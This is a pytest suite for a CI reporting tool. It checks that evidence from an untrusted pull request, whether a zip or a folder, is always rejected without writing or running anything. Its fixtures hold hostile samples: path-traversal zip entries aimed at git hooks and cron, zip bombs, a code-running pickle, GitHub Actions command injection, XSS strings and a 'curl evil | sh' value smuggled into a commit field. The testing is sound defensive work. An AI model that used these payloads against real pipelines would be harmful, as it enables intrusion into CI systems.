"""Evidence of a stranger's pull request: whatever is in it, it ends closed, and nothing of it is written or run.

Each case goes through the whole report step, as the job of a `workflow_run` event: it must end with 2 or 4 and leave a
failed check run, a comment that lets nobody in, and no file.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import stat
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from github_fake import READ, FakeGitHub
from github_workbench import BAD, BASE, FORK, HEAD, MERGE, SETTINGS, Workbench, replaced, sound_verdict
from markdown_it import MarkdownIt
from markdown_it.token import Token

from unitrack.ci import evidence
from unitrack.errors import EvidenceError
from unitrack.gate.verdict import Flag, Verdict, encode
from unitrack.registry import LocalRegistry

GOOD = object()
NAME = "verdict.json"


def zipped(entries: list[tuple[str | zipfile.ZipInfo, bytes]], path: str = "evidence.zip", **options: Any) -> Path:
    with zipfile.ZipFile(path, "w", **options) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return Path(path)


def entry(name: str, mode: int = 0o100644) -> zipfile.ZipInfo:
    made = zipfile.ZipInfo(name)
    made.external_attr = mode << 16
    made.compress_type = zipfile.ZIP_DEFLATED
    return made


def folder(**files: bytes) -> Path:
    made = Path("evidence")
    made.mkdir()
    for name, data in files.items():
        (made / name.replace("__", ".")).write_bytes(data)
    return made


def patched(old: bytes, new: bytes) -> Path:
    """A sound zip whose bytes were changed afterwards."""
    path = zipped([(entry(NAME), SOUND())])
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new))
    return path


def SOUND() -> bytes:  # noqa: N802 - reads as the constant it is
    return encode(sound_verdict())


def changed(**fields: Any) -> bytes:
    tree = json.loads(SOUND())
    tree.update(fields)
    return json.dumps(tree).encode()


def as_folder(data: bytes) -> Path:
    return folder(verdict__json=data)


# --- the container ---


def symlinked_file() -> Path:
    Path("elsewhere.json").write_bytes(SOUND())
    made = folder()
    (made / NAME).symlink_to(Path("elsewhere.json").resolve())
    return made


def symlinked_folder() -> Path:
    folder(verdict__json=SOUND()).rename("real")
    Path("evidence").symlink_to("real")
    return Path("evidence")


def hard_linked() -> Path:
    Path("elsewhere.json").write_bytes(SOUND())
    made = folder()
    os.link("elsewhere.json", made / NAME)
    return made


def a_pipe() -> Path:
    made = folder()
    os.mkfifo(made / NAME)
    return made


def to_a_device() -> Path:
    made = folder()
    (made / NAME).symlink_to("/dev/zero")
    return made


def a_folder_of_that_name() -> Path:
    made = folder()
    (made / NAME).mkdir()
    return made


def a_bomb() -> Path:
    return zipped([(entry(NAME), b" " * (64 << 20))])


def a_bomb_that_lies() -> Path:
    """A gigabyte that its header calls a kilobyte."""
    path = zipped([(entry(NAME), b" " * (8 << 20))])
    size = (8 << 20).to_bytes(4, "little")
    path.write_bytes(path.read_bytes().replace(size, (1024).to_bytes(4, "little")))
    return path


def broken_stream() -> Path:
    data = bytearray(zipped([(entry(NAME), SOUND())]).read_bytes())
    at = data.index(NAME.encode()) + len(NAME)
    data[at : at + 20] = b"\xff" * 20
    Path("evidence.zip").write_bytes(data)
    return Path("evidence.zip")


def two_of_a_name() -> Path:
    with pytest.warns(UserWarning, match="Duplicate name"):
        return zipped([(entry(NAME), encode(sound_verdict(BAD))), (entry(NAME), SOUND())])


def two_archives_in_one() -> Path:
    """One reader takes the first, another the last."""
    first = zipped([(entry(NAME), encode(sound_verdict(BAD)))]).read_bytes()
    Path("evidence.zip").write_bytes(first + zipped([(entry(NAME), SOUND())]).read_bytes())
    return Path("evidence.zip")


def an_archive_in_a_comment() -> Path:
    path = zipped([(entry(NAME), SOUND())])
    with zipfile.ZipFile(path, "a") as archive:
        archive.comment = b"PK\x05\x06" + b"\0" * 18
    return path


def names_that_differ() -> Path:
    """The directory at the end says another name than the entry itself."""
    path = zipped([(entry("verdict.jsoX"), SOUND())])
    data = path.read_bytes()
    at = data.rindex(b"verdict.jsoX")
    path.write_bytes(data[:at] + NAME.encode() + data[at + len(NAME) :])
    return path


def a_pickle() -> Path:
    class Evil:
        def __reduce__(self) -> tuple[Callable[[str], object], tuple[str]]:
            return Path.touch, (Path("executed"),)  # type: ignore[return-value]

    return folder(verdict__json=pickle.dumps(Evil()))


def a_pickle_beside() -> Path:
    return folder(verdict__json=SOUND(), model__pkl=pickle.dumps({}))


CONTAINERS: dict[str, Callable[[], Path]] = {
    "nothing at all": lambda: Path("nowhere"),
    "an empty folder": folder,
    "an empty file": lambda: Path("evidence.zip").write_bytes(b"") and Path("x") or Path("evidence.zip"),
    "path traversal": lambda: zipped([("../verdict.json", SOUND())]),
    "deep path traversal": lambda: zipped([("a/../../../../etc/cron.d/verdict.json", SOUND())]),
    "an absolute path": lambda: zipped([("/etc/verdict.json", SOUND())]),
    "a drive letter": lambda: zipped([("C:\\verdict.json", SOUND())]),
    "backslashes": lambda: zipped([("..\\verdict.json", SOUND())]),
    "a folder inside": lambda: zipped([("evidence/verdict.json", SOUND())]),
    "a name cut by a zero": lambda: patched(NAME.encode(), b"verdict\0json"),
    "a file beside": lambda: zipped([(NAME, SOUND()), ("../../.git/hooks/post-checkout", b"#!/bin/sh")]),
    "a file beside in a folder": lambda: folder(verdict__json=SOUND(), setup__py=b"boom"),
    "ten thousand files": lambda: zipped([(f"{n}", b"") for n in range(10_000)] + [(NAME, SOUND())]),
    "another case": lambda: zipped([("Verdict.JSON", SOUND())]),
    "two cases": lambda: zipped([(NAME, encode(sound_verdict(BAD))), ("VERDICT.JSON", SOUND())]),
    "a letter that looks alike": lambda: zipped([("verdi\u0441t.json", SOUND())]),
    "a composed letter": lambda: zipped([("verdict\u0301.json", SOUND())]),
    "an invisible letter": lambda: zipped([("verdict.json\u200b", SOUND())]),
    "text from right to left": lambda: zipped([("\u202enosj.tcidrev", SOUND())]),
    "a name that is a command": lambda: zipped([("\n::set-output name=verdict::pass", SOUND())]),
    "a name that is an old command": lambda: zipped([("##[set-output name=verdict;]pass", SOUND())]),
    "a symbolic link in the zip": lambda: zipped([(entry(NAME, stat.S_IFLNK | 0o777), b"/etc/passwd")]),
    "a device in the zip": lambda: zipped([(entry(NAME, stat.S_IFCHR | 0o666), SOUND())]),
    "a pipe in the zip": lambda: zipped([(entry(NAME, stat.S_IFIFO | 0o666), SOUND())]),
    "a symbolic link": symlinked_file,
    "a linked folder": symlinked_folder,
    "a hard link": hard_linked,
    "a pipe": a_pipe,
    "a device": to_a_device,
    "a folder of that name": a_folder_of_that_name,
    "a device instead of a zip": lambda: Path("/dev/zero"),
    "a bomb": a_bomb,
    "a bomb that lies of its size": a_bomb_that_lies,
    "a bomb of bzip2": lambda: zipped([(NAME, SOUND())], compression=zipfile.ZIP_BZIP2),
    "a bomb of lzma": lambda: zipped([(NAME, SOUND())], compression=zipfile.ZIP_LZMA),
    "too large a file": lambda: as_folder(SOUND() + b" " * evidence.LARGEST),
    "too large a zip": lambda: zipped([(NAME, os.urandom(2 << 20))]),
    "two of a name": two_of_a_name,
    "two archives in one": two_archives_in_one,
    "an archive in a comment": an_archive_in_a_comment,
    "names that differ": names_that_differ,
    "a broken stream": broken_stream,
    "an encrypted entry": lambda: patched(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
    "a broken sum": lambda: patched(zlib.crc32(SOUND()).to_bytes(4, "little"), b"\0\0\0\1"),
    "half a zip": lambda: (
        Path("evidence.zip").write_bytes(zipped([(NAME, SOUND())]).read_bytes()[:-30]) and Path("evidence.zip")
    ),
    "the end of a zip": lambda: (
        Path("evidence.zip").write_bytes(zipped([(NAME, SOUND())]).read_bytes()[-40:]) and Path("evidence.zip")
    ),
    "a tar": lambda: Path("evidence.zip").write_bytes(b"verdict.json" + b"\0" * 1024) and Path("evidence.zip"),
    "a pickle": a_pickle,
    "a pickle beside": a_pickle_beside,
}

# --- what it says ---


def nested(depth: int) -> bytes:
    return b'{"schema": 2, "key": ' + b"[" * depth + b"]" * depth + b"}"


def with_metric(**fields: Any) -> bytes:
    tree = json.loads(SOUND())
    tree["metrics"][0].update(fields)
    return json.dumps(tree).encode()


def forged(values: tuple[float, ...]) -> bytes:
    """The values of a bad candidate under the outcome of a good one."""
    tree = json.loads(SOUND())
    tree["metrics"][0]["candidate"] = list(values)
    return json.dumps(tree).encode()


def easier() -> bytes:
    """A verdict that agrees with itself, by a policy with a wider margin."""
    Path("unitrack.toml").write_text(SETTINGS.replace("0.02", "0.5"))
    import github_workbench

    before = github_workbench.SETTINGS
    github_workbench.SETTINGS = SETTINGS.replace("0.02", "0.5")
    try:
        return encode(sound_verdict(BAD))
    finally:
        github_workbench.SETTINGS = before
        Path("unitrack.toml").write_text(before)


def without_the_bad_metric() -> bytes:
    tree = json.loads(encode(sound_verdict(BAD)))
    del tree["metrics"][0]
    del tree["policy"]["metrics"][0]
    tree.update(outcome="pass", blocks=False)
    return json.dumps(tree).encode()


def waived() -> bytes:
    verdict = sound_verdict(BAD)
    tree = json.loads(encode(verdict))
    tree["metrics"][0]["waived"] = "w1"
    tree["waivers"] = [
        {"id": "w1", "metric": "acc", "scope": HEAD, "reason": "trust me", "who": "octocat", "created": 1.77e9,
         "expires": 1.9e9, "missing": False}
    ]  # fmt: skip
    tree.update(outcome="pass", blocks=False)
    return json.dumps(tree).encode()


CONTENTS: dict[str, Callable[[], bytes]] = {
    "no JSON": lambda: b"pass",
    "half of it": lambda: SOUND()[:-200],
    "a byte too many": lambda: SOUND() + b"}",
    "two documents": lambda: SOUND() + SOUND(),
    "another schema": lambda: changed(schema=999),
    "an unknown type": lambda: b'{"outcome": "pass"}',
    "a list": lambda: b"[" + SOUND() + b"]",
    "not UTF-8": lambda: SOUND().decode().encode("utf-16"),
    "a byte order mark": lambda: b"\xef\xbb\xbf" + SOUND(),
    "a lone surrogate": lambda: SOUND().replace(b'"unitrack gate"', b'"\\ud800"'),
    "a key twice": lambda: SOUND().replace(b'"outcome": "pass"', b'"outcome": "fail", "outcome": "pass"'),
    "NaN": lambda: SOUND().replace(b"0.905", b"NaN"),
    "Infinity": lambda: SOUND().replace(b"0.905", b"-Infinity"),
    "a number beyond all": lambda: SOUND().replace(b"0.905", b"1e999999"),
    "a number of a million digits": lambda: SOUND().replace(b"0.905", b"9" * 900_000),
    "a huge seed": lambda: SOUND().replace(b'"seed": 0', b'"seed": ' + b"9" * 5_000),
    "a negative time": lambda: changed(created=-1.0),
    "a time to come": lambda: changed(created=9e9),
    "deep nesting": lambda: nested(100_000),
    "nesting just too deep": lambda: nested(65),
    "another outcome than its values": lambda: forged(BAD),
    "a difference of its own": lambda: with_metric(mean=0.5),
    "an outcome of its own": lambda: json.dumps(
        {**json.loads(encode(sound_verdict(BAD))), "outcome": "pass", "blocks": False}
    ).encode(),
    "a policy of its own": easier,
    "a metric less": without_the_bad_metric,
    "no metric": lambda: changed(metrics=[]),
    "another policy's digest": lambda: changed(policy_sha256="0" * 64),
    "another commit": lambda: encode(sound_verdict(commit="c" * 40)),
    "another repository's commit": lambda: encode(sound_verdict(commit=BASE)),
    "half a commit": lambda: encode(sound_verdict(commit=HEAD[:12])),
    "a commit in capitals": lambda: encode(sound_verdict(commit=HEAD.upper())),
    "a commit with a line of its own": lambda: encode(sound_verdict(commit=HEAD + "\n")),
    "a commit that is a command": lambda: encode(sound_verdict(commit="\n::error::x ##[set-output name=verdict;]pass")),
    "no commit": lambda: encode(sound_verdict(commit="")),
    "itself as the baseline": lambda: encode(
        replaced(sound_verdict(), baseline=replaced(sound_verdict().baseline, commit=HEAD))
    ),
    "a waiver that nobody reviewed": waived,
    "a number and a repository": lambda: changed(number=8, pull_request=8, repository="acme/models", head_sha="c" * 40),
}


ALL = {**CONTAINERS, **{name: (lambda make=make: as_folder(make())) for name, make in CONTENTS.items()}}
MAY_BE_TAKEN = {"a number and a repository"}  # unknown fields are ignored, see below


def tree_of(path: Path) -> set[str]:
    return {str(one) for one in path.rglob("*")}


@pytest.mark.parametrize("case", [name for name in ALL if name not in MAY_BE_TAKEN])
def test_hostile_evidence_ends_closed(bench: Workbench, hub: FakeGitHub, case: str) -> None:
    bench.workflow_run()
    path = ALL[case]()
    before = tree_of(Path())
    done = bench.run("report", "--evidence", str(path), "--patience", "5", "--exit-code")
    assert done.exit_code in (2, 4), done.output
    assert not isinstance(done.exception, Exception) or isinstance(done.exception, SystemExit)
    assert [check["conclusion"] for check in hub.checks.values()] == ["failure"]
    (comment,) = hub.comments_of(7)
    assert "nothing is let in" in comment["body"]
    assert "Gate passed" not in comment["body"] + bench.summary.read_text()
    assert bench.outputs()["verdict"] == "none"
    assert tree_of(Path()) - before <= {"summary.md", "output"}, "it wrote something"
    assert not Path("executed").exists()
    lines = [line.strip() for line in done.output.splitlines()]
    assert not [one for one in lines if one.startswith("::") and not one.startswith(("::add-mask::", "::error file="))]
    assert "##[" not in done.output


def test_there_are_more_than_thirty_such_cases() -> None:
    assert len(ALL) - len(MAY_BE_TAKEN) > 30


def test_sound_evidence_is_reported_where_the_event_says(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.add_pull(8, head="c" * 40)
    done = bench.run("report", "--evidence", str(as_folder(CONTENTS["a number and a repository"]())), "--exit-code")
    assert done.exit_code == 0, done.output
    assert (len(hub.comments_of(7)), len(hub.comments_of(8))) == (1, 0)
    (check,) = hub.checks.values()
    assert (check["head_sha"], check["conclusion"]) == (HEAD, "success")


@pytest.mark.parametrize("kind", ["folder", "zip", "deflated zip"])
@pytest.mark.parametrize("commit", [HEAD, MERGE])
def test_sound_evidence_passes_as_self_reported(bench: Workbench, hub: FakeGitHub, kind: str, commit: str) -> None:
    bench.workflow_run()
    data = encode(sound_verdict(commit=commit))
    compression = zipfile.ZIP_DEFLATED if "deflated" in kind else zipfile.ZIP_STORED
    path = as_folder(data) if kind == "folder" else zipped([(NAME, data)], compression=compression)
    assert bench.run("report", "--evidence", str(path)).exit_code == 0
    (check,) = hub.checks.values()
    assert (check["title"], check["conclusion"]) == ("Gate passed (self-reported)", "success")
    assert "the measurements were not" in hub.comments_of(7)[0]["body"]
    assert len(hub.calls) <= 8


def test_a_claim_of_a_trusted_evaluation_is_not_repeated(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    verdict = sound_verdict()
    sides = {
        side: replaced(
            getattr(verdict, side), runs=tuple(replaced(run, evaluation=f"e{run.run}") for run in getattr(verdict, side).runs)
        )
        for side in ("candidate", "baseline")
    }  # fmt: skip
    bench.run("report", "--evidence", str(as_folder(encode(replaced(verdict, evaluated_by=BASE, **sides)))))
    assert "Self-reported" in hub.comments_of(7)[0]["body"]


def test_a_failed_gate_of_a_stranger_fails(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run(conclusion="failure")
    done = bench.run("report", "--evidence", str(as_folder(encode(sound_verdict(BAD)))), "--exit-code")
    assert done.exit_code == 1
    assert "Gate failed" in hub.comments_of(7)[0]["body"]


def test_a_comparison_with_another_model_than_the_production_one_is_refused(bench: Workbench, hub: FakeGitHub) -> None:
    registry = LocalRegistry(Path(".unitrack/registry"))
    registry.register("digits", run="r1", artifact="model", digest="sha256:" + "0" * 64, commit="9" * 40)
    for stage in ("staging", "production"):
        registry.set_stage("digits", 1, stage, reason="first")
    bench.workflow_run()
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "the production model is of 999" in hub.comments_of(7)[0]["body"]


HOSTILE_NAMES = (
    "</details><script>alert(1)</script>", "<!-- unitrack workflow=x -->", "@everyone #1 GH-1", "![x](https://evil/x.png)",
    "[click](javascript:alert(1))", "`code` | cell | \n| row", "\n::set-output name=verdict::pass", "##[add-mask]a",
    "<img src=x onerror=alert(1)>", "\u202eevil\u2066", "https://evil.example", "$$\\href{x}{y}$$", "```\nfence\n```",
)  # fmt: skip


OUR_MARKUP = re.compile(
    r"(</?(details|summary|sub)>|<summary>[A-Za-z ,()0-9]+</summary>|<!-- unitrack(-of)? [\w=% .-]+ -->|\s)*"
)
LIVE = re.compile(r"@\w|(^|\s)#\d|##\[|://|www\.")


def tokens_of(text: str) -> Iterator[Token]:
    """Parse as CommonMark with tables, as GitHub does, and yield what stands outside of code."""
    for block in MarkdownIt("commonmark", {"html": True}).enable("table").parse(text):
        yield from block.children or [block]


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_markup_mentions_and_commands_in_texts_are_dead(bench: Workbench, hub: FakeGitHub, text: str) -> None:
    """Texts that need not agree with anything: warnings, flags, the command that reproduces, references."""
    bench.workflow_run()
    verdict = sound_verdict()
    made: Verdict = replaced(
        verdict,
        warnings=(text,),
        flags=(Flag(kind="policy", text=text),),
        reproduce=text,
        baseline=replaced(verdict.baseline, reference=text, model=text),
        candidate=replaced(verdict.candidate, reference=text),
        policy_source=text,
        summary=text,
        lineage=msgspec.structs.replace(verdict.lineage, likely_cause=text, commits=(text,)),
    )
    done = bench.run("report", "--evidence", str(as_folder(encode(made))))
    body, summary = hub.comments_of(7)[0]["body"], bench.summary.read_text()
    for shown in (body, summary):
        for token in tokens_of(shown):
            assert token.type not in ("link_open", "image", "autolink"), token
            if token.type.startswith("html"):
                assert OUR_MARKUP.fullmatch(token.content.strip()), token
            elif token.type == "text":
                assert not LIVE.search(token.content), token
        assert "\u202e" not in shown
        assert "\n::" not in shown
    assert "##[" not in done.output
    assert not [one for one in done.output.splitlines() if one.startswith("::set-output")]
    (check,) = hub.checks.values()
    for annotation in check["annotations"]:
        assert "\n" not in annotation["message"] + annotation["title"]


def test_outputs_of_a_stranger_hold_nothing_but_known_words_and_ids(bench: Workbench) -> None:
    bench.workflow_run()
    verdict = sound_verdict()
    evil = replaced(verdict.baseline, commit='"; curl evil | sh; "')
    bench.run("report", "--evidence", str(as_folder(encode(replaced(verdict, baseline=evil)))))
    assert bench.outputs() == {
        "verdict": "pass", "candidate": HEAD, "baseline": "", "verdict-path": "", "report-path": "",
    }  # fmt: skip


# --- who it is from ---


@pytest.mark.parametrize(
    "changes",
    [
        {"event": "push"},
        {"event": "workflow_run"},
        {"event": "pull_request_target"},
        {"head_sha": "c" * 40},
        {"head_branch": "other"},
        {"head_repository": {"id": 999, "owner": {"login": "stranger"}}},
        {"head_repository": {"id": 999, "owner": {"login": "acme"}}},
    ],
)
def test_an_event_that_fits_no_open_pull_request_reports_nothing(
    bench: Workbench, hub: FakeGitHub, changes: dict[str, Any]
) -> None:
    bench.workflow_run(**changes)
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert (hub.comments, hub.checks, hub.statuses) == ({}, {}, [])
    assert "nothing is let in" in bench.summary.read_text()


@pytest.mark.parametrize("broken", [{"head_sha": "HEAD; rm -rf"}, {"head_repository": None}, {"id": "x"}])
def test_an_event_of_another_shape_is_wrong_use(bench: Workbench, hub: FakeGitHub, broken: dict[str, Any]) -> None:
    bench.workflow_run(**broken)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 2
    assert hub.calls == []


def test_a_closed_pull_request_is_not_reported(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.pulls[7]["state"] = "closed"
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert hub.comments == {}


def test_a_newer_commit_has_its_own_run(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.push(7, "f" * 40)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert (hub.comments, hub.checks) == ({}, {})


def test_two_pull_requests_with_one_head_are_told_apart_by_nobody(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.add_pull(8, head=HEAD, head_repository=FORK, merge_commit=MERGE)
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "have the same head" in bench.summary.read_text()
    assert hub.comments == {}


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_evidence_is_taken_in_a_workflow_run_only(bench: Workbench, hub: FakeGitHub, event: str) -> None:
    hub.add_pull(7, head=HEAD, merge_commit=MERGE)
    payload = {"pull_request": hub.pulls[7], "before": BASE, "after": HEAD}
    bench.event(event, payload, sha=HEAD)
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert (hub.comments, hub.checks) == ({}, {})


def test_the_policy_is_the_base_branchs_whatever_lies_here(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    hub.files["main", "unitrack.toml"] = SETTINGS.replace("0.02", "0.001")
    done = bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert done.exit_code == 4
    assert "another policy than the base branch" in hub.comments_of(7)[0]["body"]


@pytest.mark.parametrize("text", [None, "", "project = 'x'\n"])
def test_without_a_policy_on_the_base_branch_there_is_no_verdict(
    bench: Workbench, hub: FakeGitHub, text: str | None
) -> None:
    bench.workflow_run()
    hub.files.pop(("main", "unitrack.toml"))
    if text is not None:
        hub.files["main", "unitrack.toml"] = text
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert [check["conclusion"] for check in hub.checks.values()] == ["failure"]


def test_a_policy_that_cant_be_read_ends_closed(bench: Workbench, hub: FakeGitHub) -> None:
    bench.workflow_run()
    bench.set(GITHUB_TOKEN=hub.token(permissions={**READ, "contents": "none", "checks": "write"}))
    assert bench.run("report", "--evidence", str(as_folder(SOUND()))).exit_code == 4
    assert not [check for check in hub.checks.values() if check["conclusion"] == "success"]


def test_evidence_is_neither_kept_nor_cached(bench: Workbench) -> None:
    """A store that is cached from the default branch stays free of what strangers sent."""
    bench.workflow_run()
    bench.run("report", "--evidence", str(as_folder(SOUND())))
    assert not list(Path(".unitrack").rglob("*.json*")) if Path(".unitrack").exists() else True
    bench.event("push", {"before": BASE, "after": HEAD}, sha=HEAD)
    assert bench.run("report", "--exit-code").exit_code == 4, "the store must not have a verdict now"


# --- making it ---


def test_collect_writes_one_file_that_load_takes(bench: Workbench) -> None:
    done = bench.run("collect", "--verdict", bench.verdict(), "--output", "out-evidence")
    assert done.exit_code == 0, done.output
    assert os.listdir("out-evidence") == [NAME]
    assert evidence.load(Path("out-evidence")) == sound_verdict()
    assert bench.run("collect", "--verdict", bench.verdict(), "--output", "out-evidence").exit_code == 0


def test_collect_does_not_write_beside_what_is_there(bench: Workbench) -> None:
    Path("full").mkdir()
    Path("full/secret.txt").write_text("x")
    done = bench.run("collect", "--verdict", bench.verdict(), "--output", "full")
    assert done.exit_code == 4
    assert "name a folder of its own" in done.output
    assert os.listdir("full") == ["secret.txt"]


def test_collect_drops_pictures_before_it_gives_up(bench: Workbench) -> None:
    from unitrack.gate.verdict import Curve

    curve = Curve(
        metric="acc", side="candidate", seed=0, steps=tuple(map(float, range(60_000))), values=(0.123456,) * 60_000
    )
    small = replaced(sound_verdict(), curves=(curve,))
    assert bench.run("collect", "--verdict", bench.verdict(small), "--output", "a").exit_code == 0
    assert evidence.load(Path("a")).curves == ()
    large = replaced(sound_verdict(), warnings=tuple(f"{n}" * 300 for n in range(9_000)))
    assert bench.run("collect", "--verdict", bench.verdict(large), "--output", "b").exit_code == 4
    assert not Path("b").exists()


def test_a_file_that_grows_while_it_is_read_is_bounded(bench: Workbench) -> None:
    path = as_folder(SOUND())
    (path / NAME).write_bytes(b" " * (evidence.LARGEST + 1))
    with pytest.raises(EvidenceError, match="more than 1,048,576 bytes"):
        evidence.load(path)


def test_reading_takes_little_memory_of_a_bomb(bench: Workbench) -> None:
    import tracemalloc

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(NAME, b"0" * (200 << 20))
    Path("bomb.zip").write_bytes(buffer.getvalue())
    tracemalloc.start()
    with pytest.raises(EvidenceError):
        evidence.load(Path("bomb.zip"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 << 20
